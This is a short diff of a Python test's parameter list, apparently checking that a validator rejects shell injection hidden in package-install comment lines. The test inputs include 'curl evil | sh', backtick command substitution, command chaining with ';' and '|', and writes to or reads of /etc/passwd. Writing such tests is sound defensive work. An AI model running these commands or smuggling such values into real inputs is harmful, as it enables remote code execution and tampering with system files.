@@ -162,10 +162,11 @@ def test_shell_injection_with_command_substitution_in_dnf_comment(tmp_path: Path
     [
         "# apt-get install -y curl && curl evil | sh",
         "# yum install `id`",
-        "# pip install 'a'",
+        "# pip install 'a;b'",
+        "# pip install 'file:///etc/passwd'",
         "# apt install a>/etc/passwd;",
         "# pip install a|b",
-        "# pip install -r requirements.txt",
+        "# pip install --target /usr pandas",
         "# pip install",
     ],
 )
